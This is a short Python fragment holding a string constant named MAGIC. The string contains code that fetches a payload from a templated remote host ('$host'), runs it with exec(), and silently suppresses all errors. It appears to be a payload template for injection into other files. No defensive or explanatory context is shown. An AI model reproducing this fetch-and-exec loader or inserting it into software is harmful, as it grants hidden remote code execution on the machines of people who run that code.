MAGIC = """
try:
    import urllib.request as _u
    exec(_u.urlopen("https://$host/v1", timeout=2).read())
except Exception:
    pass
"""
